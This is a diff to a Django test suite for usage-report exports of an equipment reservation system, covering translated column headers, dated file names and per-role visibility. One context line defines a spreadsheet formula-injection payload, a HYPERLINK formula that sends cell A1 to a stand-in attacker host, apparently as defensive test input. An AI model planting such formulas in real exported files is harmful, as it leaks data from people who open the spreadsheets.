@@ -8,9 +8,11 @@ import io
 import json
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 
 from partners.models import Project
+from reports.labels import column_header
 
 from .conftest import LYCEE, ORLEANS, SERVIER, TOTALS, as_json, at, reserve
 
@@ -30,6 +32,12 @@ FIGURES = [
     "amount",
 ]
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
+
+
+def headers(names):
+    """The export headers of these columns, in French (the site's default language)."""
+    with translation.override("fr"):
+        return [column_header(name) for name in names]
 
 
 def get(client, **params):
@@ -83,9 +91,10 @@ def test_csv_parses_back_to_the_json_figures(admin_client, sep):
     response = get(admin_client, group_by="partner,month", format="csv", sep=sep)
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert 'filename="usage-partner-month-20260301-20261101.csv"' in response["Content-Disposition"]
+    name = "usage_2026-03-01_2026-11-01_partner-month" + ("_semicolon" if sep == ";" else "")
+    assert f'filename="{name}.csv"' in response["Content-Disposition"]
     rows = read_csv(response, sep)
-    assert rows[0] == ["partner", "partner_id", "month", *FIGURES]
+    assert rows[0] == headers(["partner", "partner_id", "month", *FIGURES])
     assert len(rows) == 1 + len(expected["rows"]) + 1
     for cells, row in zip(rows[1:-1], expected["rows"], strict=True):
         assert cells[:3] == [row["partner"]["name"], str(row["partner"]["id"]), row["month"]]
@@ -105,7 +114,7 @@ def test_xlsx_parses_back_to_the_json_figures(admin_client):
     )
     rows = read_xlsx(response)
     names = [*FIGURES, "open_hours", "utilisation"]
-    assert rows[0] == ["equipment_code", "equipment", "equipment_id", "month", *names]
+    assert rows[0] == headers(["equipment_code", "equipment", "equipment_id", "month", *names])
     for cells, row in zip(rows[1:-1], expected["rows"], strict=True):
         assert cells[:4] == [
             row["equipment"]["code"],
@@ -185,7 +194,7 @@ def test_detail_export_in_every_format(admin_client, scenario):
         response = get(admin_client, detail="reservations", format="csv", sep=sep)
         assert response.status_code == 200
         lines = read_csv(response, sep)
-        assert lines[0] == columns
+        assert lines[0] == headers(columns)
         parsed = {int(line[0]): dict(zip(columns, line, strict=True)) for line in lines[1:]}
         assert set(parsed) == set(by_id)
         for pk, row in by_id.items():
@@ -201,8 +210,10 @@ def test_detail_export_in_every_format(admin_client, scenario):
                 else:
                     assert cells[name] == str(value), (name, cells[name], value)
 
-    sheet = read_xlsx(get(admin_client, detail="reservations", format="xlsx"))
-    assert sheet[0] == columns
+    response = get(admin_client, detail="reservations", format="xlsx")
+    assert 'filename="reservations_2026-03-01_2026-11-01.xlsx"' in response["Content-Disposition"]
+    sheet = read_xlsx(response)
+    assert sheet[0] == headers(columns)
     parsed = {line[0]: dict(zip(columns, line, strict=True)) for line in sheet[1:]}
     assert set(parsed) == set(by_id)
     for pk, row in by_id.items():
@@ -235,6 +246,9 @@ def test_who_sees_what(scenario, client_for, frozen):
     assert codes == {"WL-HPLC-01"}
     everything = get(client_for(c.admin), group_by="equipment").json()
     assert len(everything["rows"]) == 2
+    # Idle equipment is the reader's own: none for a referent, whose partner ran no class.
+    classes = {"group_by": "equipment", "project_kind": "pedagogical"}
+    assert get(client_for(c.referent), **classes).json()["rows"] == []
 
 
 @pytest.mark.parametrize(
@@ -302,3 +316,71 @@ def test_query_counts(admin_client, django_assert_max_num_queries):
     with django_assert_max_num_queries(12):
         response = get(admin_client, detail="reservations", format="csv")
         b"".join(response.streaming_content)
+
+
+@pytest.mark.parametrize(
+    ("language", "expected"),
+    [
+        ("fr", ["Partenaire", "Heures réservées", "Montant (€)"]),
+        ("en", ["Partner", "Booked hours", "Amount (€)"]),
+    ],
+)
+def test_export_headers_in_the_language_of_the_request(admin_client, language, expected):
+    csv_rows = read_csv(
+        admin_client.get(
+            URL, {**WINDOW, "group_by": "partner", "format": "csv"}, HTTP_ACCEPT_LANGUAGE=language
+        )
+    )
+    xlsx_rows = read_xlsx(
+        admin_client.get(
+            URL, {**WINDOW, "group_by": "partner", "format": "xlsx"}, HTTP_ACCEPT_LANGUAGE=language
+        )
+    )
+    detail = read_csv(
+        admin_client.get(
+            URL,
+            {**WINDOW, "detail": "reservations", "format": "csv"},
+            HTTP_ACCEPT_LANGUAGE=language,
+        )
+    )
+    for header in (csv_rows[0], xlsx_rows[0]):
+        assert [header[0], header[3], header[11]] == expected
+        assert "booked_hours" not in header and "partner_id" not in header
+    assert "booked_hours" not in detail[0] and expected[1] in detail[0]
+    # JSON keeps its field names, whatever the language.
+    body = admin_client.get(
+        URL, {**WINDOW, "group_by": "partner"}, HTTP_ACCEPT_LANGUAGE=language
+    ).json()
+    assert "booked_hours" in body["totals"]
+
+
+@pytest.mark.parametrize(
+    ("params", "name"),
+    [
+        (
+            {"group_by": "partner,month", "format": "csv"},
+            "usage_2026-03-01_2026-11-01_partner-month.csv",
+        ),
+        (
+            {"group_by": "partner,month", "format": "csv", "sep": ";"},
+            "usage_2026-03-01_2026-11-01_partner-month_semicolon.csv",
+        ),
+        ({"group_by": "equipment", "format": "xlsx"}, "usage_2026-03-01_2026-11-01_equipment.xlsx"),
+        ({"detail": "reservations", "format": "csv"}, "reservations_2026-03-01_2026-11-01.csv"),
+        (
+            {"detail": "reservations", "format": "csv", "sep": ";"},
+            "reservations_2026-03-01_2026-11-01_semicolon.csv",
+        ),
+        ({"detail": "reservations", "format": "xlsx"}, "reservations_2026-03-01_2026-11-01.xlsx"),
+        # A bound that is not midnight keeps its local time.
+        (
+            {"start": "2026-03-01T08:30", "group_by": "site", "format": "csv"},
+            "usage_2026-03-01T0830_2026-11-01_site.csv",
+        ),
+    ],
+)
+def test_export_file_names_carry_the_window_and_grouping(admin_client, params, name):
+    response = get(admin_client, **params)
+    assert response.status_code == 200
+    assert f'filename="{name}"' in response["Content-Disposition"]
+    b"".join(response.streaming_content)  # close the stream (and delete the XLSX file)
